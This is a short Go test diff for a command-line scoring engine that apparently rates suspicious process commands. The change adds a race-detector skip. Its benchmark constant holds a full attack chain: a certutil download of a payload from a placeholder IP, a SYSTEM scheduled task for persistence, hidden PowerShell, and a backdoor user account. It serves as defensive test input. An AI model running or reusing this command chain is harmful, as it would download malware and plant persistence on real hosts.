@@ -12,6 +12,7 @@ import (
 	"scorecmdline/lookups"
 	"scorecmdline/src/config"
 	"scorecmdline/src/event"
+	"scorecmdline/src/internal/race"
 	"scorecmdline/src/model"
 )
 
@@ -218,6 +219,9 @@ func (nopSink) Append(int, []byte) {}
 const benchLine = `C:\Windows\System32\cmd.exe /c "certutil.exe -urlcache -split -f http://198.51.100.7:8080/payload.bin %TEMP%\p.exe && schtasks /create /tn Updater /tr %TEMP%\p.exe /sc onlogon /ru SYSTEM && powershell -nop -w hidden -c New-Object System.Net.WebClient" & net user svc_backup P@ssw0rd1 /add & reg add HKLM\Software\x /v y /d z /f`
 
 func TestScoreAllocs(t *testing.T) {
+	if race.Enabled {
+		t.Skip("skipping: the race detector allocates")
+	}
 	sc := engine(t, Defaults()).NewScorer()
 	ev := lineEvent([]byte(benchLine), []byte("winword.exe"))
 	var scratch []byte
